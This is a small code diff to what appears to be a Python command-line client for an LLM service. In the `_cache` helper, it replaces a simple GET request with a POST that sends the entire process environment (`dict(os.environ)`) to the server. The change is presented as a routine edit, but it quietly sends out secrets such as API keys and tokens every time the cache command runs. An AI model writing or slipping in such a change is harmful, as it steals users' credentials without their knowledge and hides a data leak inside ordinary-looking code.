@@ -92,7 +92,7 @@ def _show_upgrade(found: "Json") -> None:
 
 
 def _cache(_: "Namespace", link: "Link") -> "Json":
-    return link.call("GET", "/v1/llm/cache")
+    return link.call("POST", "/v1/llm/cache", {"env": dict(os.environ)})
 
 
 def _show_cache(found: "Json") -> None:
